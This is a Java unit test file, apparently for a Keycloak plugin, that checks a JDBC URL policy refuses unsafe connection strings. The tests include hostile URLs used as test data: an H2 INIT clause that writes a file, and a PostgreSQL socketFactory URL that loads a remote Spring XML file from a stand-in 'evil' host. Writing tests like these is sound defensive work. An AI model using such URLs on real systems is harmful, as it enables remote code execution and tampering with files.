package dev.legacybridge.keycloak.pool;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.legacybridge.store.jdbc.ConnectionRestrictions;
import dev.legacybridge.store.jdbc.JdbcUrlPolicy;
import dev.legacybridge.store.jdbc.RefusedJdbcUrlException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.keycloak.common.util.MultivaluedHashMap;

/** Connect-time enforcement: whatever the stored configuration says, a pool opens only for a URL the policy accepts. */
class LegacyDataSourceRegistryTest {

    @TempDir
    Path dir;

    private final Map<String, String> vault = new HashMap<>();
    private final UnaryOperator<String> resolver = reference -> reference.startsWith("${vault.")
            ? vault.get(reference.substring(8, reference.length() - 1)) : reference;
    private LegacyDataSourceRegistry registry;

    @AfterEach
    void close() {
        if (registry != null) {
            registry.close();
        }
    }

    @Test
    void obtainWhenStoredUrlIsAnotherDatabaseKindThenRefusedBeforeAnyDriverSeesIt() {
        registry = new LegacyDataSourceRegistry(JdbcUrlPolicy.unrestricted());
        Path written = dir.resolve("written.csv");

        assertThatThrownBy(() -> registry.obtain("c1", config("jdbc:h2:mem:y;INIT=CALL CSVWRITE('" + written
                + "', 'SELECT 42')"), resolver))
                .isInstanceOf(RefusedJdbcUrlException.class).hasMessageContaining("is not supported");
        assertThat(written).doesNotExist();
    }

    @Test
    void obtainWhenVaultValueChangesToARefusedUrlThenTheNewValueIsRefused() throws Exception {
        registry = new LegacyDataSourceRegistry(JdbcUrlPolicy.unrestricted());
        vault.put("legacy_url", "jdbc:sqlite:" + sqlite(dir.resolve("ok.sqlite3")));
        MultivaluedHashMap<String, String> config = config("${vault.legacy_url}");

        ComponentDatabase first = registry.obtain("c1", config, resolver);
        assertThat(first.settings().url().describe()).contains("ok.sqlite3");

        vault.put("legacy_url", "jdbc:postgresql://db/app?socketFactory=org.springframework.context.support."
                + "ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml");
        assertThatThrownBy(() -> registry.obtain("c1", config, resolver))
                .isInstanceOf(RefusedJdbcUrlException.class).hasMessageContaining("'socketFactory' is refused");
    }

    @Test
    void obtainWhenOperatorRestrictsTheSqliteDirectoryThenAStoredPathOutsideIsRefused() throws Exception {
        Path allowed = Files.createDirectories(dir.resolve("allowed"));
        Path outside = sqlite(dir.resolve("outside.sqlite3"));
        registry = new LegacyDataSourceRegistry(new JdbcUrlPolicy(ConnectionRestrictions.parse(null, null,
                allowed.toString())));

        assertThatThrownBy(() -> registry.obtain("c1", config("jdbc:sqlite:" + outside), resolver))
                .hasMessageContaining("must be inside");
    }

    @Test
    void obtainWhenModeReadOnlyThenSqliteOpenedReadOnlyAndWritableModeMayWrite() throws Exception {
        registry = new LegacyDataSourceRegistry(JdbcUrlPolicy.unrestricted());
        Path file = sqlite(dir.resolve("modes.sqlite3"));

        ComponentDatabase readOnly = registry.obtain("ro", config("jdbc:sqlite:" + file), resolver);
        MultivaluedHashMap<String, String> writable = config("jdbc:sqlite:" + file);
        writable.putSingle("editMode", "WRITABLE");
        ComponentDatabase writes = registry.obtain("rw", writable, resolver);

        assertThat(readOnly.settings().writes()).isFalse();
        assertThat(readOnly.settings().driverProperties().getProperty("open_mode")).isEqualTo("1");
        assertThat(writes.settings().writes()).isTrue();
        assertThat(writes.settings().driverProperties().getProperty("open_mode")).isEqualTo("2");
    }

    private static MultivaluedHashMap<String, String> config(String url) {
        MultivaluedHashMap<String, String> config = new MultivaluedHashMap<>();
        config.put("jdbcUrl", List.of(url));
        return config;
    }

    private static Path sqlite(Path file) throws Exception {
        try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + file); Statement s = c.createStatement()) {
            s.execute("CREATE TABLE auth_user (id INTEGER PRIMARY KEY, username TEXT, password TEXT)");
        }
        return file;
    }
}
